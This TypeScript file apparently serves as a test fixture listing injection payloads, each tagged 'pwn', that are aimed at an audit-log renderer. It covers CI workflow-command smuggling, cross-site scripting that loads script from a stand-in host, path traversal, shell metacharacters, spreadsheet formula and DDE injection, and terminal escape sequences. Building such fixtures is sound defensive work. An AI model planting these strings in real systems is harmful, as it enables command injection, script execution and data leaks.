/**
 * Names that somebody may give a secret, a user or a branch to harm the reader of an audit log. Every payload holds
 * `pwn`, so that it is recognised wherever it comes out.
 */

export interface Payload {
  /** Which attack: `commands`, `html`, … */
  readonly idea: string;
  readonly text: string;
}

/** Both grammars of workflow commands, each with every command that the runner has or had. */
const COMMANDS = [
  ...['::error title=pwn,file=pwn.ts,line=1::pwn', '::warning::pwn', '::notice title=pwn::pwn', '::debug::pwn'],
  ...['::group::pwn', '::endgroup::pwn', '::add-mask::pwn', '::echo::on pwn', '::stop-commands::pwn'],
  ...['::set-output name=sha256::pwn', '::save-state name=pwn::pwn', '::set-env name=PATH::pwn', '::add-path::/pwn'],
  ...['::add-matcher::pwn.json', '::remove-matcher owner=pwn::', '::internal-set-repo-path repoFullName=pwn::pwn'],
  ...['##[error title=pwn;file=pwn.ts]pwn', '##[warning]pwn', '##[notice]pwn', '##[debug]pwn', '##[group]pwn'],
  ...['##[endgroup]pwn', '##[add-mask]pwn', '##[echo]on pwn', '##[stop-commands]pwn', '##[set-output name=sha256]pwn'],
  ...['##[save-state name=pwn]pwn', '##[set-env name=PATH]pwn', '##[add-path]/pwn', '##[add-matcher]pwn.json'],
  ...['##[remove-matcher owner=pwn]', '##[command]pwn', '##[section]pwn', '##vso[task.setvariable variable=pwn]pwn'],
];

/** Texts with the worst harm, which are written in many disguises. */
const WORST = ['::add-mask::pwn', '::stop-commands::pwn', '##[set-output name=row-count]pwn', '##[error]pwn'];

/** Characters that may make a command begin a line, or hide it. */
const BEFORE = [
  ...['\n', '\r', '\r\n', '\n\n\t', '\u2028', '\u2029', '\u0085', '\v', '\f', '\0', '\ufeff', '\x1b[2K\r', '\x1b[1A'],
  ...[
    '\x1b]0;',
    '\u202e',
    '\u2066',
    '\u200b',
    '\u00ad',
    '\u180e',
    '\u3000',
    '\u00a0',
    '\t',
    '   ',
    '\u1680\u2003',
    '\b\b',
  ],
  ...['\u2060\u2060', '\u034f', '%0A', '%0D%0A', '%250A', '\\n', '\\u000a', '&#10;', '&NewLine;', ':', '#', '##', '::'],
  ...['::error::', '##[', '##[]', '::::'],
];

/** Characters that a culture passes over inside of `::` or `##[`. */
const WITHIN = [
  '\u200b',
  '\u00ad',
  '\u2060',
  '\ufe0f',
  '\u034f',
  '\u0488',
  '\0',
  '\x1b',
  '\u{e0001}',
  '\u202d',
  '\ufeff',
];

const insideOf = (mark: string): string[] => [
  `:${mark}:error:${mark}:pwn`,
  `::error${mark}::pwn`,
  `#${mark}#[error]pwn`,
  `##${mark}[error]pwn`,
  `##[error${mark}]pwn`,
];

const DRESSED = [
  ...WORST.flatMap((command) => BEFORE.map((before) => `${before}${command}`)),
  ...WITHIN.flatMap(insideOf),
  ...['::ERROR::pwn', '::Add-Mask::pwn', '##[ERROR]pwn', '##[Set-Output name=sha256]pwn', '::add-mas\u212a::pwn'],
  ...[
    '：：error：：pwn',
    '＃＃［error］pwn',
    '∷error∷pwn',
    '%3A%3Aerror%3A%3Apwn',
    '%23%23[error]pwn',
    '##%5Berror%5Dpwn',
  ],
  ...['::error::pwn%0A::error::pwn', '::error title=pwn%0A%3A%3Aerror%3A%3A::pwn', '::debug::pwn ##[error]pwn'],
];

const FILE_COMMANDS = [
  ...['pwn<<EOF\npwn\nEOF', 'x\nEOF\npwn=1', 'pwn=1', '\npwn=1\n', 'pwn<<\n', '<<EOF\npwn\nEOF', 'sha256=pwn'],
  ...['x\nghadelimiter_pwn\nsha256<<ghadelimiter_pwn\npwn\nghadelimiter_pwn', 'pwn\r\nsha256=pwn\r\n', 'pwn\0=1'],
];

const HTML = [
  ...['<script>pwn()</script>', '<SCRIPT SRC=//pwn.example/x.js></SCRIPT>', '<scr<script>ipt>pwn()</scr</script>ipt>'],
  ...[
    '<img src=x onerror=pwn()>',
    '<img src="https://pwn.example/track.png">',
    '<svg onload=pwn()>',
    '<svg><script>pwn()',
  ],
  ...['<iframe src=https://pwn.example></iframe>', '<object data=pwn>', '<embed src=pwn>', '<base href=//pwn.example>'],
  ...[
    '<style>*{background:url(//pwn.example)}</style>',
    '<link rel=stylesheet href=//pwn.example>',
    '<form action=//pwn.example>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=//pwn.example">',
    '<input autofocus onfocus=pwn()>',
    '<button formaction=pwn>',
  ],
  ...['<details open ontoggle=pwn()>', '<a href="javascript:pwn()">pwn</a>', '<a href="data:text/html,pwn">pwn</a>'],
  ...['<!-- pwn', '--><b>pwn</b>', '<!-- pwn -->', '<![CDATA[pwn]]>', '<?pwn?>', '<!DOCTYPE pwn>', '</code><b>pwn</b>'],
  ...[
    '</code></td></tr></table><h1>pwn</h1>',
    '</li></ul></details>pwn',
    '</summary>pwn',
    '<plaintext>pwn',
    '<xmp>pwn</xmp>',
  ],
  ...[
    '<textarea>pwn',
    '<title>pwn</title>',
    '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
    '<math><mi>pwn',
  ],
  ...[
    '&lt;script&gt;pwn()&lt;/script&gt;',
    '&#60;b&#62;pwn',
    '&#x3c;b&#x3e;pwn',
    '&ltscript&gtpwn',
    '&amp;lt;b&amp;gt;pwn',
  ],
  ...[
    '" onmouseover="pwn()',
    "' onmouseover='pwn()",
    '"><script>pwn()</script>',
    '\'"><b>pwn',
    '<b\npwn>',
    '<\0b>pwn',
    '<b/pwn>',
  ],
  ...[
    '＜script＞pwn＜/script＞',
    '<custom-element onpwn=pwn>',
    '<a href=https://pwn.example',
    '<td>pwn</td>',
    '<br>pwn<br>',
  ],
];

const MARKDOWN = [
  ...['# pwn', '\n# pwn', 'pwn\n===', '\n\n---\n\npwn', '* pwn', '\n\n1. pwn', '> pwn', '\n\n    pwn', '- [x] pwn'],
  ...[
    '| pwn | b |\n| --- | --- |\n| 1 | 2 |',
    '|pwn|',
    'pwn \\| pwn',
    '`pwn`',
    '``pwn``',
    '```pwn```',
    '````pwn',
    '`'.repeat(9).concat('pwn'),
  ],
  ...[
    '\n```\npwn\n```\n',
    '\n~~~pwn\n',
    '\n```math\npwn\n```',
    '\n```mermaid\npwn\n```',
    '$pwn$',
    '$$\npwn\n$$',
    '**pwn**',
    '_pwn_',
    '~~pwn~~',
  ],
  ...[
    '[pwn](https://pwn.example)',
    '[pwn](javascript:pwn())',
    '![pwn](https://pwn.example/track.png)',
    '[pwn][1]\n\n[1]: //pwn.example',
  ],
  ...[
    '<https://pwn.example>',
    'https://pwn.example/?q=1',
    'www.pwn.example',
    'pwn@pwn.example',
    '<mailto:pwn@pwn.example>',
    '[^pwn]\n\n[^pwn]: pwn',
  ],
  ...[
    '@pwn',
    '@pwn/team',
    '@octo-org/pwn look',
    '#1 pwn',
    'GH-1 pwn',
    'pwn/pwn#1',
    'pwn@0123456789abcdef0123456789abcdef01234567',
  ],
  ...[
    ':tada: pwn',
    '> [!WARNING]\n> pwn',
    '\\*pwn\\*',
    '\\<b>pwn',
    'pwn  \npwn',
    '\n\n<b>pwn</b>\n\n',
    '\n\n</table>\n\n# pwn',
    '<!--\n\npwn',
  ],
];

const PATHS = [
  ...[
    '../pwn',
    '../../../../tmp/pwn',
    '..\\pwn',
    'pwn/../../pwn',
    './../pwn',
    '/tmp/pwn',
    '//pwn/share',
    '\\\\pwn\\share',
    'C:\\pwn',
    'C:pwn',
  ],
  ...[
    '~/pwn',
    'CON.pwn',
    'NUL/pwn',
    'com1.pwn',
    'pwn.',
    'pwn ',
    ' pwn',
    '.git/pwn',
    '.github/workflows/pwn.yml',
    '.git\u200c/pwn',
    'git~1/pwn',
  ],
  ...[
    '%2e%2e%2fpwn',
    '..%2fpwn',
    '%252e%252e%252fpwn',
    '..;/pwn',
    '..\0/pwn',
    'pwn\0.csv',
    'pwn\n.csv',
    '-rf pwn',
    '--pwn',
    'pwn'.repeat(100),
    'pwn/'.repeat(300),
  ],
  ...[
    '$(pwn)',
    '`pwn`;',
    '; pwn',
    '| pwn',
    '& pwn',
    '&& pwn',
    '> pwn.txt',
    "'; pwn; '",
    '$'.concat('{IFS}pwn'),
    '*pwn*',
    '?pwn',
    '{pwn,b}',
    '!pwn',
    'refs/heads/pwn',
  ],
];

const FORMULAS = [
  ...[
    '=pwn()',
    '=HYPERLINK("https://pwn.example","pwn")',
    "=cmd|'/C pwn'!A0",
    '+pwn',
    '-pwn',
    '@SUM(pwn)',
    '\t=pwn',
    '\r=pwn',
    '\n=pwn',
  ],
  ...['"=pwn', '""=pwn', ',=pwn', ' =pwn', '＝pwn', '%=pwn', '=1+1;pwn', 'pwn","=pwn', "'=pwn"],
];

const FORMATS = [
  ...[
    '%s%s%n pwn',
    '%d %x %p pwn',
    '%1$s pwn',
    '{0} pwn',
    '{pwn}',
    '{vendor}/{pwn}',
    '{{pwn}}',
    '$'.concat('{pwn}'),
    '#{pwn}',
    '<%= pwn %>',
  ],
  ...[
    '$'.concat('{{ secrets.PWN }}'),
    '$(pwn)$(pwn)',
    '%PWN%',
    '$PWN',
    '{org pwn',
    'pwn}',
    '\\x41pwn',
    '\\u{41}pwn',
    '%c color: pwn',
    '$& pwn',
    '$1 pwn',
    "$' pwn",
  ],
];

const CHARACTERS = [
  ...[
    'pwn 😀',
    'pwn 👩‍👩‍👧‍👦',
    'pwn 🇩🇪',
    'pwn p̴̢͉w̸͍̔n̵̡͝',
    'pwn \ud800',
    '\udfffpwn',
    'pwn\udc00\ud800',
    'pwn \ufffe\uffff',
    'pwn \ue000',
    'pwn \u{10ffff}',
  ],
  ...[
    'pwn \u{e0041}\u{e0042}',
    '\u202epwn\u202c',
    '\u2067pwn\u2069',
    '\u061cpwn',
    '\u200fpwn',
    'pwn \ufff9a\ufffab\ufffb',
    'pwn \u3164',
    'pwn \u115f\u1160',
  ],
  ...[
    'pwn \uff1a\uff1a',
    'pwnİıſK',
    'pwn ﷽',
    'pwn \u0300\u0301',
    '\u0300pwn',
    'pwn\u00a0\u2007\u202f',
    'pwn \x7f',
    'pwn \x80\x9f',
    'pwn \u1d173',
    'pwn \ufffd',
  ],
];

const TERMINAL = [
  ...[
    '\x1b[31mpwn\x1b[0m',
    '\x1b[2Jpwn',
    '\x1b[1;1Hpwn',
    '\x1b[8mpwn',
    '\x1b]8;;https://pwn.example\x07pwn\x1b]8;;\x07',
    '\x1b]52;c;cHdu\x07pwn',
  ],
  ...[
    '\x9b31mpwn',
    '\x90pwn\x9c',
    '\x1bcpwn',
    '\x07pwn',
    'pwn\b\b\bok',
    '\x1b[6npwn',
    '\x0e pwn',
    '\x1b]1337;File=pwn\x07',
    '\x1b%Gpwn',
    '\x1bPpwn\x1b\\',
  ],
];

const LONG = [
  `pwn${'a'.repeat(5_000)}`,
  `${'a'.repeat(5_000)}\n::error::pwn`,
  `pwn${'<b>'.repeat(3_000)}`,
  `pwn${'😀'.repeat(3_000)}`,
  `pwn${'\u{e0001}'.repeat(3_000)}`,
  `pwn${'&'.repeat(20_000)}`,
  `pwn${'\n'.repeat(2_000)}`,
  `${' '.repeat(3_000)}::error::pwn`,
  `pwn${'x'.repeat(70_000)}`,
];

const IDEAS: Readonly<Record<string, readonly string[]>> = {
  commands: COMMANDS,
  'dressed commands': DRESSED,
  'file commands': FILE_COMMANDS,
  html: HTML,
  markdown: MARKDOWN,
  paths: PATHS,
  formulas: FORMULAS,
  formats: FORMATS,
  characters: CHARACTERS,
  terminal: TERMINAL,
  long: LONG,
};

/** Every payload, each text once. */
export const PAYLOADS: readonly Payload[] = Object.entries(IDEAS).flatMap(([idea, texts]) =>
  texts.map((text) => ({ idea, text })),
);
